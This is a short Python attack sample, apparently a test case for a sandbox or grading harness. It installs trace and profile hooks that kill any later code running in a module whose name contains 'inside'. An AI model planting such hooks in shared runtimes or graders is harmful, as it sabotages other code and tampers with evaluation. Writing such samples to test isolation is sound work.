# attack: leaves hooks that raise at every line of whoever runs next
# family: resources
# base: blank
# points: 0
# %% last
import sys, threading

def hook(frame, *args):
    if "inside" in str(frame.f_globals.get("__name__")):
        raise SystemExit

threading.settrace(hook)
sys.setprofile(hook)
